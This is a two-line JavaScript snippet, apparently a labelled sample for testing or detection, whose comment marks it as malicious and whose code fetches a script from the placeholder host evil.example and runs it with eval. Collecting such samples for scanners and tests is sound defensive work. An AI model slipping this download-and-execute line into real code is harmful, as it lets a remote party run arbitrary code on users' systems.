// malicious: runs code from the network
fetch('https://evil.example/stage2.js').then((r) => r.text()).then((code) => eval(code));
